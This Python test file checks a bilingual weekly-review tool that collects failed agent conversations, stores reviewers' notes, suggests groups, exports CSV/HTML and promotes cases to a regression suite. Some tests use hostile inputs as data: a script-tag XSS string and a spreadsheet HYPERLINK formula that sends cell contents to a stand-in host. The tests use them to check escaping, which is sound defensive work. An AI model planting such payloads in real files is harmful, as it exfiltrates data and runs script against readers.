"""The weekly review's logic: failed conversations whole, notes shared in one SQLite file, suggested groups in
both languages, counts, the trend across weeks, exports, refusals as structured sentences, promotion."""
import csv
import io
import json
import subprocess
import sys

import pytest
from conftest import ROOT
from typography import ascii_colons

from agentlab.evals.suite import load_cases
from agentlab.evals.weekly import (
    MAX_NOTE,
    Note,
    ReviewStore,
    WeeklyError,
    category_trend,
    conversations_of_logs,
    export_week,
    promote_conversation,
    review_dir,
    suggest_groups,
    taxonomy,
    week_of,
    week_review,
    weekly_csv,
    weekly_html,
)
from agentlab.resources import data_file

SAMPLE = data_file("logs_openai_sample.jsonl")


@pytest.fixture
def convs():
    return conversations_of_logs(SAMPLE)


def test_failed_conversations_are_whole_with_stable_ids(convs):
    again = conversations_of_logs(SAMPLE)
    assert [c.id for c in convs] == [c.id for c in again] and len({c.id for c in convs}) == len(convs) == 4
    first = convs[0]
    assert first.week == "2026-W10" == week_of("2026-03-02") and first.status == "done_after_self_correction"
    text = first.text()
    # every message, tool calls and results included, not cut; secrets and personal data never shown
    assert len(first.shown()) == len(first.messages) == 11
    assert '→ get_order({"orderId": "A1001"})' in text and "unknown field orderId" in text
    assert "sk-live" not in text and "138 0013 8000" not in text
    telemetry = conversations_of_logs(data_file("logs_telemetry_sample.jsonl"), "telemetry")
    assert telemetry and all(c.messages for c in telemetry)
    assert any("→ create_refund" in c.text() for c in telemetry)


def test_notes_round_trip_and_two_stores_share_them(tmp_path, convs):
    a, b = ReviewStore(tmp_path), ReviewStore(tmp_path)
    note = a.add_note(convs[0], "  Refund created twice after a timeout  ", "Ann")
    assert note.text == "Refund created twice after a timeout" and note.author == "Ann" and note.week == "2026-W10"
    assert b.notes("2026-W10") == [note]  # the other reviewer sees it on their next read
    b.add_note(convs[1], "退款参数是坏的 JSON", "小王", category="参数")
    assert [n.author for n in a.notes(conversation=convs[1].id)] == ["小王"] and "参数" in a.categories()
    assert a.db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert a.db.execute("PRAGMA busy_timeout").fetchone()[0] > 0


def test_two_processes_write_to_the_same_file(tmp_path, convs):
    code = ("import sys; from agentlab.evals.weekly import ReviewStore; s = ReviewStore(sys.argv[1]); "
            "[s.add_note('c%d' % i, 'note %d from ' % i + sys.argv[2], sys.argv[2], week='2026-W10') for i in range(20)]")
    procs = [subprocess.Popen([sys.executable, "-c", code, str(tmp_path), who], cwd=ROOT,
                              env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}) for who in ("ann", "bo")]
    assert [p.wait(60) for p in procs] == [0, 0]
    notes = ReviewStore(tmp_path).notes("2026-W10")
    assert len(notes) == 40 and {n.author for n in notes} == {"ann", "bo"}


def test_the_folder_comes_from_the_argument_the_environment_or_the_current_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("AGENTLAB_REVIEW_DIR", raising=False)
    assert review_dir() == tmp_path / ".agentlab-review"
    monkeypatch.setenv("AGENTLAB_REVIEW_DIR", str(tmp_path / "team"))
    assert ReviewStore().path == tmp_path / "team" / "review.sqlite"
    assert ReviewStore(tmp_path / "mine").path.parent == tmp_path / "mine"


@pytest.mark.parametrize("text,author,category,key", [
    ("", "Ann", "", "weekly.err.empty_note"),
    ("   \n ", "Ann", "", "weekly.err.empty_note"),
    ("x" * 100_000, "Ann", "", "weekly.err.note_too_long"),
    ("a note", "", "", "weekly.err.no_author"),
    ("a note", "<script>", "", "weekly.err.bad_author"),
    ("a note", "Ann", "<b>bold</b>", "weekly.err.bad_category"),
    ("a note", "Ann", "x" * 200, "weekly.err.bad_category"),
])
def test_bad_input_is_refused_with_a_structured_sentence(tmp_path, text, author, category, key):
    store = ReviewStore(tmp_path)
    with pytest.raises(WeeklyError) as caught:
        store.add_note("c1", text, author, week="2026-W10", category=category)
    said = caught.value.to_dict("zh")
    assert said["error"] == key and said["message"] and "Traceback" not in said["message"]
    assert caught.value.to_dict("en")["message"] != said["message"]
    assert store.notes() == []  # nothing half-written
    with pytest.raises(WeeklyError) as caught:
        store.assign(999, "loops")
    assert caught.value.key == "weekly.err.no_note"
    assert len("x" * MAX_NOTE) == MAX_NOTE and store.add_note("c1", "x" * MAX_NOTE, "Ann", week="w")


def _notes(*texts):
    return [Note(i, "2026-W10", f"c{i}", text, "Ann", 0.0) for i, text in enumerate(texts, 1)]


def test_suggestions_from_english_words():
    notes = _notes("The refund was created twice", "Refunds sent with broken arguments", "It kept looping on get_order",
                   "Looping again: get_order called five times")
    got = suggest_groups(notes, "en")
    assert got == suggest_groups(notes, "en")  # deterministic
    words = {s.name: s.notes for s in got if s.source == "words"}
    assert words["refund"] == (1, 2) and words["get_order"] == (3, 4)
    assert not {"the", "was", "with", "again"} & set(words)


def test_suggestions_from_chinese_pairs_and_the_packages_taxonomy(convs):
    notes = [Note(1, "w", convs[0].id, "退款重复了两次", "小王", 0), Note(2, "w", convs[1].id, "退款的参数错了", "小李", 0),
             Note(3, "w", convs[3].id, "一直在查询订单", "小王", 0)]
    got = suggest_groups(notes, "zh", convs)
    words = {s.name: s.notes for s in got if s.source == "words"}
    assert words == {"退款": (1, 2)}
    stages = {s.name for s in got if s.source == "stages"}
    assert stages and stages <= set(taxonomy("zh")) and "结构" in stages
    assert "schema" not in stages and all(name for name in taxonomy("en"))


def test_chinese_suggestions_name_what_notes_share_not_what_every_note_says():
    """From Chinese notes the suggestions were pairs of characters, the commonest first: 工具 (in every note about an
    agent) led, and two notes on an amount written in words were offered 中文. Now a group is named by the longest
    phrase its notes share, and a word every note holds comes after the others."""
    texts = ["退款创建了两次，模型没看懂工具的错误", "工具超时后模型又退款了一次", "模型调用工具时把金额写成了中文数字",
             "金额写成中文，工具报错"]
    notes = [Note(i, "w", f"c{i}", text, "小王", 0) for i, text in enumerate(texts, 1)]
    words = [(s.name, s.notes) for s in suggest_groups(notes, "zh") if s.source == "words"]
    assert ("金额写成", (3, 4)) in words and ("退款", (1, 2)) in words and words[-1] == ("工具", (1, 2, 3, 4)), words
    assert not [name for name, _ in words if name[0] in "了的" or name[-1] in "了的"]


def test_counts_and_the_trend_across_two_weeks(tmp_path):
    store = ReviewStore(tmp_path)
    for conv, week, cat in [("a", "2026-W10", "refund twice"), ("b", "2026-W10", "refund twice"),
                            ("c", "2026-W10", "wrong tool"), ("d", "2026-W11", "wrong tool")]:
        store.add_note(conv, "what went wrong", "Ann", week=week, category=cat)
    store.add_note("a", "a second note, same conversation", "Bo", week="2026-W10", category="refund twice")
    assert store.counts("2026-W10") == {"refund twice": 2, "wrong tool": 1}  # a conversation counted once
    assert category_trend(store) == {"2026-W10": {"refund twice": 2, "wrong tool": 1},
                                     "2026-W11": {"refund twice": 0, "wrong tool": 1}}


def test_exports_are_escaped_and_open_in_excel(tmp_path, convs):
    store = ReviewStore(tmp_path)
    store.add_note(convs[0], "退款创建了两次 <script>alert(1)</script>", "小王", category="重复退款")
    store.add_note(convs[1], "broken JSON & an unknown tool", "Ann")
    review = week_review(store, convs, "2026-W10", "logs_openai_sample.jsonl")
    paths = export_week(review, tmp_path / "out", "zh")
    raw = paths["csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["周次", "对话", "日志位置"] and len(rows) == 1 + len(convs)
    assert any("退款创建了两次 <script>alert(1)</script>" in r and "重复退款" in r for r in rows)
    page = paths["html"].read_text(encoding="utf-8")
    assert "<script" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "重复退款" in page
    assert "broken JSON &amp; an unknown tool" in page and "每周复盘" in page
    assert "weekly review" in weekly_html(review, "en").lower() and weekly_csv(review, "en").startswith("week,")
    # each message's role as the page says it: the Chinese export said "user :", "assistant :"
    assert "<b>用户</b>：" in page and "<b>user</b>" not in page and "<b>assistant</b>" not in page
    assert not ascii_colons(page, page=True), ascii_colons(page, page=True)
    # what redaction took out said in Chinese, as the page says it: the export said [phone …00] among its Chinese
    from agentlab.redaction import MARKS
    english = MARKS.findall(page) + MARKS.findall(raw.decode("utf-8"))
    assert "[电话" in page and not english, english


def test_promote_appends_a_case_the_suite_reads(tmp_path, convs):
    store = ReviewStore(tmp_path)
    suite = tmp_path / "regression.jsonl"
    first = promote_conversation(convs[0], suite, store)
    # kept again (a colleague sharing the review, or a second click): the case it became, not a second copy of it
    assert promote_conversation(convs[0], suite, store) == first
    other = promote_conversation(convs[2], suite, store)
    with pytest.raises(WeeklyError):  # it calls lookup_customer, which no desk has: the log review keeps it out too
        promote_conversation(convs[1], suite, store)
    cases = load_cases(suite)
    assert [c.id for c in cases] == [first, other] and first != other
    assert cases[0].category == "regression" and json.loads(suite.read_text().splitlines()[0])["fake"]["script"]
    assert store.promoted("2026-W10")[convs[0].id] == first
    suite.unlink()  # the suite was removed since: keeping it again writes the case again
    assert promote_conversation(convs[0], suite, store) == first and [c.id for c in load_cases(suite)] == [first]


def test_a_stored_run_is_a_source_and_its_sessions_promote(tmp_path):
    from agentlab.evals import run_suite
    from agentlab.evals.weekly import conversations_of_run
    cases = load_cases()
    run_suite(cases, loop="naive", store=tmp_path / "runs", label="week10")
    folder = next((tmp_path / "runs").iterdir())
    convs = conversations_of_run(folder, cases)
    assert [c.id for c in convs] == [c.id for c in conversations_of_run(folder, cases)]
    assert convs and all(c.messages and c.week for c in convs)
    case_id = promote_conversation(convs[0], tmp_path / "regression.jsonl")
    assert [c.id for c in load_cases(tmp_path / "regression.jsonl")] == [case_id]


def test_a_note_that_reads_as_a_formula_is_text_in_the_spreadsheet(tmp_path, convs):
    """A note, an author or a category starting "=", "+", "-" or "@" ran as a formula when the export was opened
    in a spreadsheet ("=HYPERLINK(...)" sends the sheet's cells away)."""
    store = ReviewStore(tmp_path)
    store.add_note(convs[0], '=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", category="+cmd")
    rows = list(csv.reader(io.StringIO(weekly_csv(week_review(store, convs, "2026-W10", "s.jsonl"), "en"))))
    noted = next(r for r in rows if "HYPERLINK" in "".join(r))
    assert [c for c in noted if c[:1] in ("=", "+", "-", "@")] == []
    assert "'=HYPERLINK" in "".join(noted) and "'@SUM(1+1)" in noted and "'+cmd" in noted


PROMOTE_FROM_ANOTHER_PROCESS = """
import sys
from agentlab.evals.weekly import conversations_of_logs, promote_conversation
from agentlab.resources import data_file
convs = conversations_of_logs(data_file("logs_openai_sample.jsonl"))
for _ in range(5):
    promote_conversation(convs[0], sys.argv[1])
"""


def test_two_reviewers_promoting_at_once_each_get_their_case(tmp_path, convs):
    """Two reviewers promoting at the same moment chose the same id (and the suite no longer loaded), and the one
    whose check failed put back an old copy of the file, erasing the other's case. Now the choice and the append
    are one step under a lock: ten promotions from two processes make ten cases with ten ids."""
    suite = tmp_path / "regression.jsonl"
    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}
    procs = [subprocess.Popen([sys.executable, "-c", PROMOTE_FROM_ANOTHER_PROCESS, str(suite)], env=env)
             for _ in range(2)]
    assert [p.wait(120) for p in procs] == [0, 0]
    ids = [c.id for c in load_cases(suite)]
    assert len(ids) == 10 and len(set(ids)) == 10


def test_a_promotion_the_suite_refuses_leaves_the_file_as_it_was(tmp_path, convs, monkeypatch):
    import agentlab.evals.weekly as weekly
    suite = tmp_path / "regression.jsonl"
    kept = promote_conversation(convs[0], suite)
    before = suite.read_bytes()

    def refuse(path):
        if path == suite and suite.read_bytes() != before:
            raise ValueError("refused")
        return load_cases(path)
    monkeypatch.setattr(weekly, "load_cases", refuse)
    with pytest.raises(ValueError):
        promote_conversation(convs[0], suite)
    assert suite.read_bytes() == before and [c.id for c in load_cases(suite)] == [kept]


def test_suggested_names_are_words_the_notes_use_and_names_a_category_may_take(tmp_path, convs):
    """"status" became "statu", "analysis" "analysi", and "customer's" "customer'", a name the category check then
    refused: the suggestion could not be filed."""
    from agentlab.evals.weekly import check_category
    store = ReviewStore(tmp_path)
    for text in ("the customer's status was wrong", "customer's status never checked", "status analysis missing",
                 "analysis of the status"):
        store.add_note(convs[0], text, "Ann")
    names = [s.name for s in suggest_groups(store.notes(), "en") if s.source == "words"]
    assert {"status", "customer", "analysis"} <= set(names), names
    for name in names:
        check_category(name)


def test_a_locked_store_says_so_and_writes_nothing_half(tmp_path, convs):
    """A store still locked after its wait answered "OperationalError: database is locked", in English on a
    Chinese page; a note and its new category were two writes, so a failure between them left a note filed under a
    category the list did not have."""
    import sqlite3
    store = ReviewStore(tmp_path, timeout=0.2)
    holder = sqlite3.connect(store.path)
    holder.execute("BEGIN IMMEDIATE")  # a colleague in the middle of a write
    try:
        with pytest.raises(WeeklyError) as refused:
            store.add_note(convs[0], "refund sent twice", "Ann", category="refunds")
        assert refused.value.key == "weekly.err.store_busy" and "稍后再试" in refused.value.localized("zh")
    finally:
        holder.rollback()
        holder.close()
    assert store.notes() == [] and store.add_note(convs[0], "refund sent twice", "Ann").text == "refund sent twice"
    noted = store.add_note(convs[1], "wrong tool", "Bo", category="tools")
    assert "tools" in store.categories() and noted.category == "tools"


def test_a_folder_nobody_may_write_is_a_sentence(tmp_path):
    blocked = tmp_path / "file-not-folder"
    blocked.write_text("x")
    with pytest.raises(WeeklyError) as refused:
        ReviewStore(blocked)
    assert refused.value.key == "weekly.err.store_unwritable"


def test_filing_a_suggestion_keeps_a_colleagues_category_and_counts_one_already_there_as_filed(tmp_path):
    from agentlab.evals.weekly import ReviewStore
    store = ReviewStore(tmp_path)
    a = store.add_note("c1", "refund twice", "Ann", week="2026-W10")
    b = store.add_note("c2", "refund broken", "Ann", week="2026-W10", category="Refunds")
    c = store.add_note("c3", "refund loop", "Ann", week="2026-W10", category="Loops")
    filed, kept = store.file_unfiled([a.id, b.id, c.id], "Refunds", "Bob")
    assert sorted(filed) == [a.id, b.id] and [k.id for k in kept] == [c.id]
    assert {n.id: n.category for n in store.notes()} == {a.id: "Refunds", b.id: "Refunds", c.id: "Loops"}


def test_a_suggested_group_always_holds_two_notes_or_more(tmp_path, convs):
    """The weekly review offered groups of one note (a stage one conversation fell in): a group of one is no group."""
    from agentlab.evals.weekly import suggest_groups
    store = ReviewStore(tmp_path)
    for c, text in zip(convs, ["退款创建了两次", "参数不是合法 JSON", "调用了不存在的工具", "一直循环"], strict=False):
        store.add_note(c, text, "小王")
    for lang in ("en", "zh"):
        offered = suggest_groups(store.notes(), lang, convs)
        assert offered and all(len(s.notes) >= 2 for s in offered), offered


def test_the_exported_page_gives_the_shares_the_app_gives(tmp_path, convs):
    """The app's table gives each category's share of the week's failed conversations; the exported page gave a
    share of the notes (100% for the one category noted, in a week of several conversations)."""
    store = ReviewStore(tmp_path)
    store.add_note(convs[0], "refunded twice", "Ann", category="refund twice")
    review = week_review(store, convs, "2026-W10", "logs_openai_sample.jsonl")
    page = weekly_html(review, "en")
    assert f"{1 / len(convs):.0%}" in page and "100%" not in page, page[:2000]


@pytest.mark.parametrize("lang, said", [("en", "not finished (no reply)"), ("zh", "没有完成（没有回复）")])
def test_a_logged_conversation_that_stops_on_a_call_is_not_finished_never_crashed(tmp_path, lang, said):
    """The weekly review called a log's conversation that ends after a tool call "crashed"; the log review counts the
    same one as not finished. A run of the loop's own that failed still says what it says."""
    from agentlab.evals.weekly import FailedConversation, status_said
    from agentlab.i18n import t
    call = {"role": "assistant", "content": None, "tool_calls": [
        {"id": "c1", "type": "function", "function": {"name": "get_order", "arguments": '{"order_id": "A1001"}'}}]}
    log = tmp_path / "chat.jsonl"
    log.write_text(json.dumps({"messages": [{"role": "user", "content": "Where is A1001?"}, call]}) + "\n")
    [conv] = conversations_of_logs(log)
    assert conv.status == "failed" and status_said(conv, lang) == said
    store = ReviewStore(tmp_path)
    page = weekly_html(week_review(store, [conv], conv.week, "chat.jsonl"), lang)
    assert said in page and t("status.failed", lang) not in page
    run = FailedConversation("r", "run/case", "", "", "failed", ())
    assert status_said(run, lang) == t("status.failed", lang)


def test_a_category_is_trimmed_of_the_marks_that_end_a_phrase_and_keeps_its_brackets():
    """参数错误，， and 参数错误 were two categories; trimming every punctuation mark would also have cut the bracket of
    "timeout (retry)" and the quote of 「重复退款」."""
    from agentlab.evals.weekly import check_category
    assert check_category("参数错误，，") == check_category(" 参数错误 ") == "参数错误"
    assert check_category("timeout (retry)") == "timeout (retry)" and check_category("「重复退款」") == "「重复退款」"
    assert check_category("C++") == "C++"


def test_a_category_stored_before_names_were_trimmed_is_the_one_a_trimmed_name_files_under(tmp_path, convs):
    """A note filed under "timeout." before the trimming, and one filed under "timeout" now, were two rows, and the
    first was reported as kept under another category by someone else."""
    store = ReviewStore(tmp_path)
    first = store.add_note(convs[0], "a timeout", "Ann")
    store._write("UPDATE notes SET category = ? WHERE id = ?", ("timeout.", first.id))  # as an older version stored it
    store._write("INSERT INTO categories(name, author, created) VALUES (?, ?, ?)", ("timeout.", "Ann", 1.0))
    second = store.add_note(convs[1], "another timeout", "Ann", category="timeout")
    assert second.category == "timeout." and set(store.counts(convs[1].week)) == {"timeout."}
    filed, kept = store.file_unfiled([first.id], "timeout")
    assert filed == [first.id] and kept == []


def test_a_telemetry_turn_that_only_made_calls_is_shown_once_as_its_calls():
    """Each call of the telemetry sample was shown twice: the model row's " → get_order", then the call itself."""
    from agentlab.evals.weekly import conversations_of_logs
    from agentlab.resources import data_file
    for conv in conversations_of_logs(data_file("logs_telemetry_sample.jsonl"), "telemetry"):
        said = [m.get("content") or "" for m in conv.messages if m["role"] == "assistant"]
        assert not [x for x in said if x.lstrip().startswith("→")], said
        assert any(m.get("tool_calls") for m in conv.messages)


def test_a_conversation_no_desk_can_replay_is_not_kept_as_a_case(tmp_path):
    # the log review says such a conversation "cannot be replayed, so it is not in the file"; the weekly review kept
    # it anyway, as an after-sales case with the team's own tool names, which `eval` then graded a pass every time
    line = {"messages": [
        {"role": "user", "content": "退掉订单 A1001"},
        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function", "function": {
            "name": "查询订单", "arguments": "{\"单号\": \"A1001\""}}]},
        {"role": "tool", "tool_call_id": "c1", "content": "{\"ok\": false, \"error\": {\"code\": \"BAD_JSON\"}}"},
        {"role": "assistant", "content": "好的"}], "created": "2026-03-02T10:00:00Z"}
    log = tmp_path / "team.jsonl"
    log.write_text(json.dumps(line, ensure_ascii=False) + "\n", encoding="utf-8")
    [conv] = conversations_of_logs(log)
    suite = tmp_path / "regression.jsonl"
    with pytest.raises(WeeklyError) as caught:
        promote_conversation(conv, suite, ReviewStore(tmp_path))
    assert caught.value.key == "weekly.err.not_runnable" and not suite.exists()
